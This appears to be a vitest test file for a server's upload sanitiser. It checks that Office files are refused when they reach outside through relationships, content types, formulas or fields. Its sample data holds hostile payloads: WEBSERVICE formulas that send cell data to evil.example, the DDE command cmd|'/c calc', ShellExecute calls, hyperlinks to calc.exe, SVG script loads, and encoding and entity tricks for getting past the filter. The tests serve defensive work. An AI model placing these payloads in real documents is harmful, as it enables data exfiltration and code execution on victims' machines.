import { describe, expect, it } from "vitest";
import { cleanFile } from "#server/uploads/clean-file.ts";
import { tableSheets } from "#server/uploads/tables/table-rows.ts";
import { zip } from "#tests/support/files/sample-files.ts";

const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const main = "application/vnd.openxmlformats-officedocument.spreadsheetml";
const declaration = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

const contentTypes = (more = "") =>
  `${declaration}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${main}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${main}.worksheet+xml"/>${more}</Types>`;
const relations = (inner: string) =>
  `${declaration}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
const relation = (type: string, target: string, more = "") =>
  relations(
    `<Relationship Id="rId1" Type="${type.includes(":") ? type : `${types}/${type}`}" Target="${target}" ${more}/>`,
  );
const sheet = (inner: string) =>
  `${declaration}<worksheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>${inner}</sheetData></worksheet>`;
const escaped = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
const cell = (formula: string) => sheet(`<row r="1"><c r="A1"><f>${escaped(formula)}</f><v>7</v></c></row>`);

/** A workbook as spreadsheet programs write it, with these parts added or replaced. */
function workbook(parts: Record<string, string | Buffer> = {}): Buffer {
  const contents = {
    "[Content_Types].xml": contentTypes(),
    "_rels/.rels": relation("officeDocument", "xl/workbook.xml"),
    "xl/workbook.xml": `${declaration}<workbook xmlns:r="${types}"><sheets><sheet name="Прайс" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    "xl/_rels/workbook.xml.rels": relation("worksheet", "worksheets/sheet1.xml"),
    "xl/worksheets/sheet1.xml": cell("SUM($B1:B9)"),
    ...parts,
  };
  return zip(Object.keys(contents), { contents, deflated: true });
}

async function judged(parts: Record<string, string | Buffer>): Promise<string> {
  const cleaned = await cleanFile(Uint8Array.from(workbook(parts)));
  return cleaned.ok ? cleaned.value.type : cleaned.code;
}
const judgedFormula = (formula: string) => judged({ "xl/worksheets/sheet1.xml": cell(formula) });

const utf32 = (text: string) => Buffer.from(Uint32Array.from(text, (sign) => sign.codePointAt(0) ?? 0).buffer);

describe("a part of an office document is XML by its first non-blank character (security I4)", () => {
  const evil = relation("attachedTemplate", "https://evil.example/a.dotm", 'TargetMode="External"').slice(
    declaration.length,
  );
  const encodings: [string, (text: string) => Buffer][] = [
    ["UTF-8", (text) => Buffer.from(text)],
    ["UTF-8 with a mark", (text) => Buffer.from(`\ufeff${text}`)],
    ["UTF-16 LE with a mark", (text) => Buffer.from(`\ufeff${text}`, "utf16le")],
    ["UTF-16 LE without a mark", (text) => Buffer.from(text, "utf16le")],
    ["UTF-16 BE with a mark", (text) => Buffer.from(`\ufeff${text}`, "utf16le").swap16()],
    ["UTF-16 BE without a mark", (text) => Buffer.from(text, "utf16le").swap16()],
    ["UTF-32 LE", utf32],
    ["UTF-32 BE", (text) => utf32(text).swap32()],
    ["UTF-32 BE with a mark", (text) => utf32(`\ufeff${text}`).swap32()],
  ];
  const beginnings: [string, string][] = [
    ["at once", ""],
    ["behind a blank", " "],
    ["behind 1,001 blanks", " ".repeat(1_001)],
    ["behind 70,000 lines", "\r\n\t".repeat(70_000)],
  ];
  const names = ["xl/_rels/workbook.xml.rels", "xl/media/image1.png", "xl/data.bin"];

  it.each(
    encodings.flatMap(([encoding, encode]) =>
      beginnings.map(([where, before]) => [encoding, where, encode, before] as const),
    ),
  )("in %s, external content of %s is detected", async (_encoding, _where, encode, before) => {
    for (const name of names) expect(await judged({ [name]: encode(before + evil) }), name).toBe("fileType");
  });

  it("text after a declaration longer than the first kilobyte is read in the declared encoding", async () => {
    const named = `<?xml version="1.0"${" ".repeat(2_000)}encoding="utf-7"?>`;
    expect(await judged({ "xl/data.bin": named + evil })).toBe("fileType");
    expect(await judged({ "xl/data.bin": named.replace("utf-7", "cp037") + relation("styles", "a").slice(60) })).toBe(
      "fileType",
    );
  });

  it("endlessly nested elements are refused", async () =>
    expect(await judged({ "xl/data.xml": "<f>".repeat(100_000) + "</f>".repeat(100_000) })).toBe("fileType"));

  it("a part declared as XML that is not, or is not well-formed, is refused", async () => {
    expect(await judged({ "xl/styles.xml": "\x01\x02\x03 binary" })).toBe("fileType");
    expect(await judged({ "xl/data.bin": `<a b="` })).toBe("fileType");
  });

  it("pictures and printer settings are accepted whatever bytes they begin with", async () => {
    const parts: [string, Buffer][] = [
      ["xl/media/image1.png", Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0x3c, 0x3c])],
      ["xl/media/image2.emf", Buffer.from([1, 0, 0, 0, 0x3c, 0, 0, 0])],
      ["xl/printerSettings/printerSettings1.bin", Buffer.from("HP LaserJet <1>", "utf16le")],
      ["xl/printerSettings/printerSettings2.bin", Buffer.alloc(400)],
      [
        "xl/printerSettings/printerSettings3.bin",
        Buffer.from(
          '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict/></plist>',
        ),
      ],
    ];
    for (const [name, content] of parts) expect(await judged({ [name]: content }), name).toBe("xlsx");
  });

  it.each(encodings.slice(0, 6))("a sheet in %s without external content is accepted", async (_, encode) => {
    const text = cell('IF($A2="да",VLOOKUP($A2,Лист2!A:B,2,0),"—")').slice(declaration.length);
    expect(await judged({ "xl/worksheets/sheet1.xml": encode(text) })).toBe("xlsx");
  });
});

describe("relationships of an office document (security I4)", () => {
  it.each([
    ["an image of a site, without a mode", relation("image", "http://evil.example/1.png")],
    ["an image of this machine, without a mode", relation("image", "file:///C:/secret.png")],
    ["an image of a share, said to be internal", relation("image", "\\\\evil\\share\\1.png", 'TargetMode="Internal"')],
    ["an image of a share with slashes", relation("image", "//evil/share/1.png")],
    ["an image of a share in entities", relation("image", "&#92;&#92;evil&#92;1.png")],
    ["an image of a drive", relation("image", "C:/secret.png")],
    ["an address in capitals behind a blank", relation("image", " HTTP://evil.example/1.png")],
    ["an address parted by a line", relation("image", "ht&#10;tp://evil.example/1.png")],
    ["an image in an unknown mode", relation("image", "media/1.png", 'TargetMode="Elsewhere"')],
    ["a link to a program, without a mode", relation("hyperlink", "file:///C:/Windows/system32/calc.exe")],
    ["a link with a script", relation("hyperlink", "javascript:alert(1)", 'TargetMode="External"')],
    ["a template of its own", relation("attachedTemplate", "template.xml")],
    ["another book", relation("externalLink", "data.xml")],
    ["the path of another book", relation("externalLinkPath", "https://evil.example/a.xlsx", 'TargetMode="External"')],
    ["a query", relation("queryTable", "data.xml")],
    ["connections", relation("connections", "data.xml")],
    [
      "web pictures",
      relation("http://schemas.microsoft.com/office/2017/06/relationships/rdRichValueWebImage", "data.xml"),
    ],
    ["an add-in", relation("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "data.xml")],
    [
      "buttons of a ribbon",
      relation("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "data.xml"),
    ],
    ["macros of OnlyOffice", relation("http://schemas.onlyoffice.com/jsaProject", "jsaProject.bin")],
    ["a type nobody writes", relation("http://evil.example/relationships/anything", "data.xml")],
    [
      "a base elsewhere",
      relations(`<Relationship xml:base="http://evil.example/" Id="rId1" Type="${types}/image" Target="1.png"/>`),
    ],
    [
      "an address beside a target of another namespace",
      relations(`<Relationship x:Target="1.png" Id="rId1" Type="${types}/image" Target="http://evil.example/1.png"/>`),
    ],
    [
      "an address beside an attribute that ends like a target",
      relations(`<Relationship Id="rId1" Type="${types}/image" Target="http://evil.example/1.png" моюTarget="1.png"/>`),
    ],
  ])("%s is refused", async (_, content) =>
    expect(await judged({ "xl/worksheets/_rels/sheet1.xml.rels": content })).toBe("fileType"),
  );

  it.each([
    ["a link to a page", relation("hyperlink", "https://shop.test/?a=1&amp;b=%D0%BF", 'TargetMode="External"')],
    ["a link to a page, without a mode", relation("hyperlink", "http://shop.test")],
    ["a link to an address of mail", relation("hyperlink", "mailto:a@shop.test?subject=x", 'TargetMode="External"')],
    ["a link to a place in the book", relation("hyperlink", "#Лист2!A1")],
    ["a picture by a path from the root", relation("image", "/xl/media/image1.png", 'TargetMode="Internal"')],
    ["a drawing beside", relation("drawing", "../drawings/drawing1.xml")],
    ["a table", relation("table", "../tables/table1.xml")],
    [
      "comments in threads",
      relation("http://schemas.microsoft.com/office/2017/10/relationships/threadedComment", "../a.xml"),
    ],
    [
      "metadata of Google Sheets",
      relation("http://customschemas.google.com/relationships/workbookmetadata", "metadata"),
    ],
    [
      "properties in the strict form",
      relation("http://purl.oclc.org/ooxml/officeDocument/relationships/extendedProperties", "a.xml"),
    ],
    ["pictures of WPS", relation("http://www.wps.cn/officeDocument/2020/cellImage", "cellimages.xml")],
  ])("%s is accepted", async (_, content) =>
    expect(await judged({ "xl/worksheets/_rels/sheet1.xml.rels": content })).toBe("xlsx"),
  );
});

describe("content types of an office document (security I4)", () => {
  const named = (type: string, extension = "bin") =>
    judged({
      "[Content_Types].xml": contentTypes(`<Default Extension="${extension}" ContentType="${type}"/>`),
      "xl/data.bin": "x",
    });

  it.each([
    `${main}.externalLink+xml`,
    `${main}.connections+xml`,
    `${main}.queryTable+xml`,
    "application/vnd.openxmlformats-officedocument.oleObject",
    "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "application/vnd.ms-excel.rdrichvaluewebimage+xml",
    "application/vnd.ms-office.webextension+xml",
    "application/x-msdownload",
    "text/html",
  ])("%s is refused", async (type) => expect(await named(type)).toBe("fileType"));

  it.each([
    `${main}.printerSettings`,
    `${main}.pivotTable+xml`,
    "application/vnd.ms-excel.threadedcomments+xml",
    "application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
    "application/vnd.openxmlformats-package.core-properties+xml",
    "image/x-emf",
  ])("%s is accepted", async (type) => expect(await named(type)).toBe("xlsx"));

  it("a type beside an attribute of the same name in another namespace is refused", async () =>
    expect(
      await judged({
        "[Content_Types].xml": contentTypes(
          '<Default Extension="bin" x:ContentType="application/xml" ContentType="text/html"/>',
        ),
        "xl/data.bin": "x",
      }),
    ).toBe("fileType"));

  it("a type without a part in the document is ignored: SheetJS declares macros in every workbook", async () => {
    expect(await named("application/vnd.ms-excel.sheet.binary.macroEnabled.main", "xlsb")).toBe("xlsx");
    const list = await tableSheets(
      Uint8Array.from(
        workbook({
          "[Content_Types].xml": contentTypes(
            '<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>',
          ),
        }),
      ),
      "goods",
    );
    expect(list.ok).toBe(true);
  });
});

describe("formulas of an office document (security I4)", () => {
  const outside = [
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMAGE("http://evil.example/1.png")',
    '_xlfn.WEBSERVICE("http://evil.example")',
    '_xlfn._xlws.WEBSERVICE ("http://evil.example")',
    'IF($A1>0,_xlfn.IMAGE("http://evil.example/"&A1),"")',
    'webService("http://evil.example")',
    "BYROW($A1:A3,_xleta.WEBSERVICE)",
    'SUM(1,"WEBSERVICE(")+WEBSERVICE("http://evil.example")',
    'RTD("prog.id",,"a")',
    'CALL("Shell32","ShellExecuteA","JJCCCJJ")',
    'REGISTER.ID("user32","x")',
    'CUBEVALUE("connection","[a]")',
    '_xlfn.STOCKHISTORY("MSFT",TODAY())',
    '_xlfn.TRANSLATE($A1,"en")',
    "_xlfn._xlws.PY(0,1)",
    'IMPORTDATA("http://evil.example")',
    "GOOGLETRANSLATE($A1)",
    'IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""http://evil.example"",""//a"")"),"x")',
    'IFERROR(__xludf.DUMMYFUNCTION("IMPORT"&"XML(""http://evil.example"")"),"x")',
    "ADDIN.FUNCTION($A1)",
    "[1]Лист1!A1",
    "'[1]Лист 1'!A1",
    "'C:\\папка\\[книга.xlsx]Лист1'!A1",
    "'https://evil.example/[a.xlsx]Лист1'!A1",
    "SUM([Книга2.xlsx]Лист1!$A$1)",
    "cmd|'/c calc'!A0",
    'HYPERLINK("file:///C:/Windows/system32/calc.exe","Открыть")',
    'HYPERLINK("\\\\evil\\share\\a.lnk")',
    'HYPERLINK(CHAR(102)&"ile:///C:/a.exe")',
    'SUM("a',
  ];
  it.each(outside)("%s is refused", async (formula) => expect(await judgedFormula(formula)).toBe("fileType"));

  it.each<[string, string, (formula: string) => string]>([
    [
      "a name",
      "xl/workbook.xml",
      (formula) => `<x:workbook><x:definedName name="a">${formula}</x:definedName></x:workbook>`,
    ],
    [
      "a conditional format",
      "xl/worksheets/sheet1.xml",
      (formula) => sheet(`<cfRule type="expression"><formula>${formula}</formula></cfRule>`),
    ],
    [
      "a later conditional format",
      "xl/worksheets/sheet1.xml",
      (formula) => sheet(`<x14:cfRule><xm:f>${formula}</xm:f></x14:cfRule>`),
    ],
    ["a bound of a scale", "xl/worksheets/sheet1.xml", (formula) => sheet(`<cfvo type="formula" val="${formula}"/>`)],
    [
      "a check of what is typed",
      "xl/worksheets/sheet1.xml",
      (formula) => sheet(`<dataValidation><formula2>${formula}</formula2></dataValidation>`),
    ],
    [
      "a column of a table",
      "xl/tables/table1.xml",
      (formula) => `<table><calculatedColumnFormula>${formula}</calculatedColumnFormula></table>`,
    ],
    [
      "a total of a table",
      "xl/tables/table1.xml",
      (formula) => `<table><totalsRowFormula array="1">${formula}</totalsRowFormula></table>`,
    ],
    ["a series of a chart", "xl/charts/chart1.xml", (formula) => `<c:chart><c:f>${formula}</c:f></c:chart>`],
    ["the text of a drawing", "xl/drawings/drawing1.xml", (formula) => `<xdr:sp macro="" textlink="${formula}"/>`],
    [
      "a field of a pivot table",
      "xl/pivotCache/pivotCacheDefinition1.xml",
      (formula) => `<a><cacheField name="b" formula="${formula}"/></a>`,
    ],
    ["a control of a form", "xl/ctrlProps/ctrlProp1.xml", (formula) => `<formControlPr fmlaLink="${formula}"/>`],
    [
      "a note's drawing",
      "xl/drawings/vmlDrawing1.vml",
      (formula) => `<xml><x:FmlaMacro>${formula}</x:FmlaMacro></xml>`,
    ],
    ["a part under another name", "xl/media/image1.png", (formula) => `<a:f xmlns:a="urn:a">${formula}</a:f>`],
    [
      "a text of its own kind",
      "xl/worksheets/sheet1.xml",
      (formula) => sheet(`<f><![CDATA[WEB]]>${formula.slice(3)}</f>`),
    ],
    [
      "a text with a comment in it",
      "xl/worksheets/sheet1.xml",
      (formula) => sheet(`<f>WEB<!-- > -->${formula.slice(3)}</f>`),
    ],
  ])("a formula that reaches outside is refused as %s", async (_, part, content) =>
    expect(await judged({ [part]: content("WEBSERVICE($A1)") })).toBe("fileType"),
  );

  it.each([
    'IF($A2="a|b",SUM($B1:B9),0)',
    'HYPERLINK("https://shop.test/"&A2,"Фото")',
    'HYPERLINK("#Лист2!A1","к листу")',
    "'Прайс лист'!$A$1:$B$9",
    "SUM('Лист 1:Лист 3'!A1)",
    "SUM(Таблица1[[#This Row],[Цена, руб.]]*Таблица1[Кол-во])",
    "SUM(T['[скобка'']])",
    "[@Цена]*[@Кол]",
    "[0]!Имя+1",
    'INDEX(Лист1!$A$1:$B$2,MATCH("*"&A1&"*",B:B,0),2)',
    '_xlfn._xlws.FILTER($A1:A9,_xlfn.ANCHORARRAY($B1)>0,"")',
    "_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1),_xlpm.f(2))",
    'IFERROR(__xludf.DUMMYFUNCTION("ARRAYFORMULA(""a""&A1:A9)"),"x")',
    "СуммаПрописью($A1)",
    '_xlfn.DISPIMG("ID_1",1)',
    "{1,2;3,4}",
    "1.5E+10-#REF!",
    "",
  ])("%s is accepted", async (formula) => expect(await judgedFormula(formula)).toBe("xlsx"));

  it("any formula is accepted in a list that is read for its values", async () => {
    for (const formula of outside) {
      const list = await tableSheets(Uint8Array.from(workbook({ "xl/worksheets/sheet1.xml": cell(formula) })), "goods");
      expect(list.ok && list.value[0]?.rows[0]?.cells).toEqual(["7"]);
    }
  });

  it("a fraction in a mathematical formula is not a spreadsheet formula", async () =>
    expect(await judged({ "word/data.xml": "<m:oMath><m:f><m:num><m:t>g(x)|a</m:t></m:num></m:f></m:oMath>" })).toBe(
      "xlsx",
    ));
});

describe("elements that fetch by their own attributes (security I4)", () => {
  it.each([
    [
      "a picture of a note",
      "xl/drawings/vmlDrawing1.vml",
      '<xml><v:imagedata src="https://evil.example/1.png"/></xml>',
    ],
    ["a picture in a drawing", "xl/media/image1.svg", '<svg><image xlink:href="//evil.example/1.png"/></svg>'],
    ["a script in a drawing", "xl/media/image1.svg", '<svg><script href="https://evil.example/1.js"/></svg>'],
    ["DDE", "xl/data.xml", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'],
    ["a query of a page", "xl/data.xml", '<connection><webPr url="http://evil.example"/></connection>'],
    [
      "a database of a letter",
      "word/settings.xml",
      '<w:mailMerge><w:connectString w:val="Provider=SQLOLEDB"/></w:mailMerge>',
    ],
    [
      "a field that leads to a program, in pieces",
      "word/document.xml",
      '<w:p><w:instrText> HYPERLINK "fi</w:instrText><w:instrText>le:///C:/a.exe" </w:instrText></w:p>',
    ],
    ["a field of a database", "word/document.xml", "<w:instrText> DATABASE \\d x \\c y </w:instrText>"],
  ])("%s is refused", async (_, part, content) => expect(await judged({ [part]: content })).toBe("fileType"));

  it("fields that link to pages and within the text are accepted", async () => {
    const fields = ['HYPERLINK "htt', 'ps://shop.test/" \\o "x"', " PAGE ", 'HYPERLINK \\l "_Toc1"', "TOC \\o \\h"];
    const text = fields
      .map((field) => `<w:instrText xml:space="preserve">${escaped(field)}</w:instrText>`)
      .join("<w:r/>");
    expect(await judged({ "word/document.xml": `<w:p>${text}</w:p>` })).toBe("docx");
  });

  it("embedded pictures and links of drawings are accepted", async () => {
    const vml =
      '<xml><v:shape href="https://shop.test"><v:imagedata o:relid="rId1" o:title="1"/><v:f eqn="sum @0 0 0"/></v:shape></xml>';
    const svg =
      '<svg><defs><path id="a"/></defs><use xlink:href="#a"/><image href="data:image/png;base64,AA=="/></svg>';
    expect(await judged({ "xl/drawings/vmlDrawing1.vml": vml, "xl/media/image1.svg": svg })).toBe("xlsx");
  });
});
